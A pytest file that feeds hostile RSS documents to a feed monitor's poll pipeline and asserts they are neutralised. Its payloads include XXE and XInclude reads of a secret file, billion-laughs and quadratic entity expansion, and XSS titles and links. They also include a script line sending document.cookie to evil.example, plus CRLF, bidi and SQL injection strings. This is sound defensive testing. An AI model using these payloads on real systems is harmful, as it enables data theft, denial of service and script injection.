"""Hostile feeds through the real poll path (issue 4, item 2).

Every sample is generated here, wrapped around two ordinary items (``control-1`` and
``control-2``), served by the local feed server and polled by ``pipeline.poll`` into a
real SQLite store.  Nothing may be read from the disk or fetched, time and memory stay
bounded, the stored text is clean, and the control items are kept.
"""

from __future__ import annotations

import re
import time
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from sqlalchemy import select

from monitor import pipeline
from monitor.clock import FakeClock
from monitor.config import load_config
from monitor.db import ArticleRow, make_engine, upgrade
from monitor.parse import MAX_TEXT_CHARS, MAX_TITLE_CHARS
from monitor.store import Store
from tests.feedserver import FeedServer
from tests.helpers import write_watchlist

SECRET = "MONITOR-SECRET-5b1e-do-not-store"
PROBE = "/xxe-probe/"
POLLING = {"connect_timeout_seconds": 2, "read_timeout_seconds": 5, "deadline_seconds": 10}
TIME_LIMIT = 10.0  # seconds for one poll of one hostile feed (tracemalloc slows it ~5x)
MEMORY_LIMIT = 60_000_000  # bytes of peak traced allocation during that poll

CONTROLS = "".join(
    f"<item><title>control-{i}</title><link>https://example.org/control-{i}</link>"
    f'<guid isPermaLink="false">control-{i}</guid>'
    f"<description>Ordinary entry number {i}.</description>"
    f"<pubDate>Mon, 06 Jan 2025 10:00:00 +0000</pubDate></item>"
    for i in (1, 2)
)

_open: list[Store] = []


@pytest.fixture(autouse=True)
def _close_stores() -> Iterator[None]:
    yield
    while _open:
        _open.pop().close()


@dataclass(frozen=True)
class Env:
    """What a sample may point at: a secret file and the probe URL of the local server."""

    secret_uri: str
    probe: str  # http://127.0.0.1:PORT/xxe-probe/


def feed(items: str, *, prolog: str = "", encoding: str = "utf-8") -> str:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>\n{prolog}\n'
        '<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel>'
        "<title>hostile</title><link>https://example.org/</link>"
        f"<description>d</description>{CONTROLS}{items}</channel></rss>"
    )


def payload(
    title: str,
    description: str = "payload",
    link: str = "https://example.org/p",
    guid: str = "payload",
) -> str:
    return (
        f"<item><title>{title}</title><link>{link}</link>"
        f'<guid isPermaLink="false">{guid}</guid>'
        f"<description>{description}</description></item>"
    )


def billion_laughs(one_line: bool) -> str:
    sep = "" if one_line else "\n"
    decls = [' <!ENTITY lol0 "lol">'] + [
        f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return feed(payload("&lol9;", "&lol9;"), prolog=f"<!DOCTYPE rss [{sep}{sep.join(decls)}]>")


def quadratic(size: int = 100_000, refs: int = 2_000) -> str:
    return feed(
        payload("&a;" * refs, "&a;" * refs),
        prolog=f'<!DOCTYPE rss [\n<!ENTITY a "{"B" * size}">\n]>',
    )


def xxe(uri: str, one_line: bool = False) -> str:
    sep = "" if one_line else "\n"
    return feed(
        payload("&xxe;", "x &xxe; y"),
        prolog=f'<!DOCTYPE rss [{sep}<!ENTITY xxe SYSTEM "{uri}">{sep}]>',
    )


Make = Callable[[Env], bytes]
Check = Callable[[list[ArticleRow]], None]


def _utf8(make: Callable[[Env], str]) -> Make:
    return lambda env: make(env).encode("utf-8")


def _payload_title(expected: str | None) -> Check:
    def check(rows: list[ArticleRow]) -> None:
        titles = [r.title for r in rows if r.guid == "payload"]
        assert titles == ([] if expected is None else [expected]), titles

    return check


HOSTILE_TITLES = [
    ("script", "&lt;script&gt;alert(1)&lt;/script&gt;Breaking news", "Breaking news"),
    ("img", '<![CDATA[<img src=x onerror="alert(1)">Budget approved]]>', "Budget approved"),
    ("cdata-script", "<![CDATA[Photo story<script>document.cookie</script>]]>", "Photo story"),
    ("crlf-literal", "Line one\r\nSet-Cookie: injected=1", "Line one Set-Cookie: injected=1"),
    ("crlf-refs", "Line one&#13;&#10;Bcc: victim@example.org", "Line one Bcc: victim@example.org"),
    ("rtlo", "Invoice \u202egnp.exe\u202c received", "Invoice gnp.exe received"),
    (
        "isolates",
        "\u2066Left\u2069 \u2067Right\u2069 \u200fmark\u200e \u061cend",
        "Left Right mark end",
    ),
    ("zero-width", "cease\u200bfire\ufeff\u2060holds", "ceasefireholds"),
    # feedparser reads C1 characters as windows-1252 ("\x85" is "…"): no control survives.
    ("c1-controls", "Tab\there\x85next\x9bline\x7fend", "Tab here…next\u203aline end"),
    ("line-separators", "one\u2028two\u2029three", "one two three"),
    ("sql", "'); DROP TABLE articles; --", "'); DROP TABLE articles; --"),
]

HOSTILE_LINKS = [
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java&#x09;script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "//evil.example/x",
]

HOSTILE_HTML = (
    '&lt;p onclick="steal()"&gt;Body text&lt;/p&gt;'
    '&lt;iframe src="https://evil.example/"&gt;framed&lt;/iframe&gt;'
    "&lt;style&gt;body{display:none}&lt;/style&gt;"
    "&lt;script&gt;fetch('https://evil.example/?c='+document.cookie)&lt;/script&gt;"
    '&lt;a href="javascript:alert(1)"&gt;click&lt;/a&gt; &lt;b&gt;after&lt;/b&gt;'
)


def _injection(env: Env) -> bytes:
    items = [
        payload(raw, HOSTILE_HTML, link=f"https://example.org/{name}", guid=f"title-{name}")
        for name, raw, _ in HOSTILE_TITLES
    ]
    items += [
        payload(f"link {i}", link=link, guid=f"link-{i}") for i, link in enumerate(HOSTILE_LINKS)
    ]
    items.append(  # a javascript: permalink guid becomes no link at all
        '<item><title>permalink</title><guid isPermaLink="true">javascript:alert(1)</guid></item>'
    )
    return feed("".join(items)).encode("utf-8")


def _check_injection(rows: list[ArticleRow]) -> None:
    by_guid = {r.guid: r for r in rows}
    for name, _, expected in HOSTILE_TITLES:
        row = by_guid[f"title-{name}"]
        assert row.title == expected, (name, row.title)
        assert "Body text" in row.text and "after" in row.text and "click" in row.text
        for bad in ("steal", "framed", "display:none", "document.cookie", "javascript"):
            assert bad not in row.text, (name, bad, row.text)
    for i in range(len(HOSTILE_LINKS)):
        row = by_guid[f"link-{i}"]
        # only the scheme-relative one survives, resolved against the feed's http URL
        assert row.url is None or row.url == "http://evil.example/x", row.url
    permalink = next(r for r in rows if r.title == "permalink")
    assert permalink.url is None


def _long(env: Env) -> bytes:
    words = "word " * 200_000  # 1 MB
    return feed(payload(words, words, guid="long")).encode("utf-8")


def _check_long(rows: list[ArticleRow]) -> None:
    (row,) = [r for r in rows if r.guid == "long"]
    assert 0 < len(row.title) <= MAX_TITLE_CHARS and row.title.endswith("word…")
    assert 0 < len(row.text) <= MAX_TEXT_CHARS and row.text.endswith("word…")


def _deep(env: Env) -> bytes:
    depth = 10_000
    return feed(
        payload("deep", "<![CDATA[x]]>" + "<n>" * depth + "bottom" + "</n>" * depth)
    ).encode("utf-8")


def _attributes(env: Env) -> bytes:
    attrs = " ".join(f'a{i}="{i}"' for i in range(20_000))
    return feed(
        f'<item><title {attrs}>attrs</title><guid isPermaLink="false">payload</guid></item>'
    ).encode()


@dataclass(frozen=True)
class Sample:
    make: Make
    check: Check | None = None


SAMPLES: dict[str, Sample] = {
    "xxe-local-file": Sample(_utf8(lambda env: xxe(env.secret_uri)), _payload_title("&xxe;")),
    "xxe-local-file-one-line": Sample(_utf8(lambda env: xxe(env.secret_uri, one_line=True))),
    "xxe-local-file-utf16": Sample(
        lambda env: xxe(env.secret_uri).replace('"utf-8"', '"utf-16"').encode("utf-16")
    ),
    "xxe-http": Sample(_utf8(lambda env: xxe(env.probe + "general"))),
    "xxe-parameter-entity": Sample(
        _utf8(
            lambda env: feed(
                payload("&exfil;"),
                prolog=f'<!DOCTYPE rss [\n<!ENTITY % ext SYSTEM "{env.probe}param">\n%ext;\n]>',
            )
        )
    ),
    "external-dtd": Sample(
        _utf8(
            lambda env: feed(payload("payload"), prolog=f'<!DOCTYPE rss SYSTEM "{env.probe}dtd">')
        ),
        _payload_title("payload"),
    ),
    "xinclude": Sample(
        _utf8(
            lambda env: feed(
                payload(
                    "payload",
                    f'<xi:include href="{env.secret_uri}" parse="text"/>'
                    f'<xi:include href="{env.probe}xinclude" parse="text"/>',
                )
            )
        )
    ),
    "billion-laughs": Sample(_utf8(lambda env: billion_laughs(one_line=False))),
    "billion-laughs-one-line": Sample(_utf8(lambda env: billion_laughs(one_line=True))),
    "billion-laughs-utf16": Sample(
        lambda env: billion_laughs(False).replace('"utf-8"', '"utf-16"').encode("utf-16")
    ),
    "quadratic-blowup": Sample(_utf8(lambda env: quadratic())),
    "deep-nesting": Sample(_deep, _payload_title("deep")),
    "huge-attribute-list": Sample(_attributes, _payload_title("attrs")),
    "injection": Sample(_injection, _check_injection),
    "1mb-title-and-text": Sample(_long, _check_long),
}

_TAG = re.compile(r"<\s*/?\s*[A-Za-z!?]")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u200b\u2060\ufeff]")


def _assert_clean(row: ArticleRow) -> None:
    assert not _TAG.search(row.title) and not _TAG.search(row.text), (row.title, row.text[:200])
    assert not _CONTROL.search(row.title) and not _CONTROL.search(row.text)
    assert not _BIDI.search(row.title) and not _BIDI.search(row.text)
    assert "\n" not in row.title and "\r" not in row.title and "\r" not in row.text
    assert len(row.title) <= MAX_TITLE_CHARS and len(row.text) <= MAX_TEXT_CHARS
    assert row.url is None or row.url.startswith(("http://", "https://")), row.url


@pytest.mark.parametrize("name", list(SAMPLES))
def test_hostile_feed_is_contained(
    name: str, feed_server: FeedServer, clock: FakeClock, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(f"root:x:0:0 {SECRET}\n", encoding="utf-8")
    env = Env(secret.as_uri(), feed_server.url(PROBE))
    sample = SAMPLES[name]
    feed_server.add("/hostile.xml", sample.make(env), content_type="application/rss+xml")
    feed_server.add(PROBE + "general", SECRET.encode())  # would be read, if fetched
    path = write_watchlist(tmp_path, {"Hostile": feed_server.url("/hostile.xml")}, polling=POLLING)
    config = load_config(str(path), env={})
    upgrade(config.database_url)
    store = Store(make_engine(config.database_url))
    _open.append(store)
    m = pipeline.Monitor(config, store, clock)
    pipeline.sync(m)

    tracemalloc.start()
    started = time.monotonic()
    try:
        report = pipeline.poll(m)
        took = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert took < TIME_LIMIT, f"{name}: {took:.1f}s"
    assert peak < MEMORY_LIMIT, f"{name}: peak {peak / 1e6:.0f} MB"

    assert report.polled == 1 and report.errors == {}, report.errors
    [row] = store.feeds()
    assert row.error_count == 0 and row.last_ok_at == clock.now()
    with store.transaction() as s:
        rows = list(s.scalars(select(ArticleRow).order_by(ArticleRow.id)))
    titles = [r.title for r in rows]
    assert titles[:2] == ["control-1", "control-2"], titles
    assert [r.url for r in rows[:2]] == [
        "https://example.org/control-1",
        "https://example.org/control-2",
    ]
    for r in rows:
        _assert_clean(r)
    if sample.check is not None:
        sample.check(rows)

    # Nothing read from the disk, nothing fetched.
    assert not any(r.path.startswith(PROBE) for r in feed_server.requests), feed_server.requests
    assert [r.path for r in feed_server.requests] == ["/hostile.xml"]
    store.close()
    for db_file in tmp_path.glob("monitor.db*"):
        data = db_file.read_bytes()
        assert SECRET.encode() not in data and SECRET.encode("utf-16-le") not in data
        assert b"root:x:0:0" not in data
